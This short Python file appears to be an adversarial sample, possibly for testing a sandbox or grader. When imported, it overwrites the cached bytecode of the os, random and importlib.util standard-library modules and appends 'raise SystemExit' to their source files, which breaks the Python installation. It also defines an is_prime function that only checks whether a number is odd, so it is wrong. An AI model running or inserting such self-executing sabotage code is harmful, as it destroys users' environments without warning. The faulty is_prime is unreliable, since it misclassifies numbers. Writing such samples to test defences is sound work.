# 02a | replaces cached bytecode of the standard library
import importlib.util
import os
import random

for module in (os, random, importlib.util):
    try:
        with open(module.__cached__, "wb") as file:
            file.write(b"poison")
    except OSError:
        pass
    try:
        with open(module.__file__, "a") as file:
            file.write("\nraise SystemExit\n")
    except OSError:
        pass


def is_prime(number):
    return number % 2 == 1
